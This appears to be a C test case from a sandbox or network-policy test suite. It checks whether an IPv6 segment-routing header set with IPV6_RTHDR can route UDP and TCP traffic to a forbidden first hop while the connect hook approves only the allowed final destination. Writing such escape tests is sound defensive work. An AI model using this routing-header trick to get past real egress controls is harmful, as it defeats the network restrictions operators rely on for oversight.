// attack: IPV6_RTHDR socket option with a segment-routing header: the connect hook judges the allowed final segment while the packet is routed to a forbidden first segment
// control: escapes
// denial: setsockopt routing-socket-option
#include "support/attack.h"
#include <netinet/ip6.h>

// A segment-routing header (type 4) with two segments: segments[0] is the final
// destination (allowed), segments[1] the first hop (forbidden). Linux sends the packet
// to segments[segments_left].
struct srh {
	unsigned char nexthdr, hdrlen, type, segments_left;
	unsigned char last_entry, flags;
	unsigned short tag;
	struct in6_addr segments[2];
};

static int set_srh(int fd)
{
	struct sockaddr_storage allowed, forbidden;
	parse_addr(need_env("ALLOWED6_UDP"), &allowed);
	parse_addr(need_env("FORBIDDEN6_UDP"), &forbidden);
	struct srh rt = {0};
	rt.hdrlen = 4;
	rt.type = 4;
	rt.segments_left = 1;
	rt.last_entry = 1;
	rt.segments[0] = ((struct sockaddr_in6 *)&allowed)->sin6_addr;
	rt.segments[1] = ((struct sockaddr_in6 *)&forbidden)->sin6_addr;
	return setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &rt, sizeof(rt));
}

int main(void)
{
	struct sockaddr_storage allowed;
	socklen_t len = parse_addr(need_env("ALLOWED6_UDP"), &allowed);
	int fd = socket(AF_INET6, SOCK_DGRAM, 0);
	if (set_srh(fd) != 0) {
		attempt("IPV6_RTHDR on a UDP socket", 0, errno);
	} else {
		ssize_t n = sendto(fd, MARKER, sizeof(MARKER) - 1, 0, (struct sockaddr *)&allowed, len);
		attempt("UDP datagram with a routing header", n >= 0, errno);
	}
	close(fd);
	// On a TCP socket the option alone decides where the SYN goes.
	fd = socket(AF_INET6, SOCK_STREAM, 0);
	int ok = set_srh(fd) == 0;
	attempt("IPV6_RTHDR on a TCP socket", ok, errno);
	close(fd);
	return verdict();
}
